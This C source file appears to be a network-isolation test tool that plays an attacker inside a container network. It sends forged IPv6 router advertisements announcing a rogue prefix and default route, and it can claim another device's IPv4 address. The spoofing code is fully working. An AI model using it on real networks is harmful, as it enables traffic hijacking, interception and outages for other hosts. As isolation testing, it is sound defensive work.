/* An attacker in a container's network.
 *
 *   advertise DEVICE COUNT       sends so many router advertisements: a prefix and a default route
 *   advertise --take IP DEVICE   gives the device that address
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static int failed(const char* what) {
    printf("advertise: %s: %s\n", what, strerror(errno));
    return 1;
}

static uint16_t checksum(const uint8_t* source, const uint8_t* target, const uint8_t* data,
                         size_t size) {
    uint32_t sum = 58 + (uint32_t)size;
    for (int i = 0; i < 16; i += 2)
        sum +=
            (uint32_t)(source[i] << 8 | source[i + 1]) + (uint32_t)(target[i] << 8 | target[i + 1]);
    for (size_t i = 0; i + 1 < size; i += 2) sum += (uint32_t)(data[i] << 8 | data[i + 1]);
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static int advertise(const char* device, int count) {
    /* 2001:db8:bad::/64, on link and for addresses; lives for an hour */
    static const uint8_t prefix[16] = {0x20, 0x01, 0x0d, 0xb8, 0x0b, 0xad};
    uint8_t frame[14 + 40 + 16 + 32] = {0x33, 0x33, 0, 0, 0, 1};
    uint8_t *ip = frame + 14, *icmp = ip + 40, *option = icmp + 16;
    struct ifreq request;
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (fd < 0) return failed("socket");
    memset(&request, 0, sizeof request);
    strncpy(request.ifr_name, device, IFNAMSIZ - 1);
    if (ioctl(fd, SIOCGIFHWADDR, &request) != 0) return failed(device);
    memcpy(frame + 6, request.ifr_hwaddr.sa_data, 6);
    if (ioctl(fd, SIOCGIFINDEX, &request) != 0) return failed(device);
    struct sockaddr_ll to = {
        .sll_family = AF_PACKET, .sll_ifindex = request.ifr_ifindex, .sll_halen = 6};
    memcpy(to.sll_addr, frame, 6);
    frame[12] = 0x86;
    frame[13] = 0xdd;
    ip[0] = 0x60;
    ip[5] = 16 + 32;
    ip[6] = 58;
    ip[7] = 255;
    ip[8] = 0xfe;
    ip[9] = 0x80;
    ip[23] = 0x66;
    ip[24] = 0xff;
    ip[25] = 0x02;
    ip[39] = 1;
    icmp[0] = 134;
    icmp[4] = 64;
    icmp[6] = 0x0e;
    icmp[7] = 0x10;
    option[0] = 3;
    option[1] = 4;
    option[2] = 64;
    option[3] = 0xc0;
    option[6] = option[10] = 0x0e;
    option[7] = option[11] = 0x10;
    memcpy(option + 16, prefix, 16);
    uint16_t sum = checksum(ip + 8, ip + 24, icmp, 16 + 32);
    icmp[2] = (uint8_t)(sum >> 8);
    icmp[3] = (uint8_t)sum;
    for (int i = 0; i < count; ++i) {
        if (sendto(fd, frame, sizeof frame, 0, (struct sockaddr*)&to, sizeof to) !=
            (ssize_t)sizeof frame)
            return failed("sendto");
        usleep(2000);
    }
    printf("%d sent\n", count);
    return 0;
}

static int take(const char* address, const char* device) {
    struct ifreq request;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    memset(&request, 0, sizeof request);
    strncpy(request.ifr_name, device, IFNAMSIZ - 1);
    struct sockaddr_in* own = (struct sockaddr_in*)&request.ifr_addr;
    own->sin_family = AF_INET;
    inet_pton(AF_INET, address, &own->sin_addr);
    if (fd < 0 || ioctl(fd, SIOCSIFADDR, &request) != 0) return failed("set the address");
    return 0;
}

int main(int count, char** arguments) {
    if (count == 4 && strcmp(arguments[1], "--take") == 0) return take(arguments[2], arguments[3]);
    if (count == 3) return advertise(arguments[1], atoi(arguments[2]));
    return 2;
}
